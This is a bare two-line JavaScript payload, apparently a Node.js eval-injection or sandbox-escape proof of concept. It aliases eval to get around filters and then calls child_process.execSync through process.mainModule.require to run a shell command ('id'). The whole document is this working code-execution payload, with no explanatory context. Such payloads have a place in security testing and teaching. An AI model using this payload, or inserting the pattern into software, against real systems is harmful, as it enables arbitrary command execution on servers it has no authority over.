const run = eval.bind(null);
run("process." + 'mainModule.require("child_process").execSync("id", {stdio: "inherit"})');
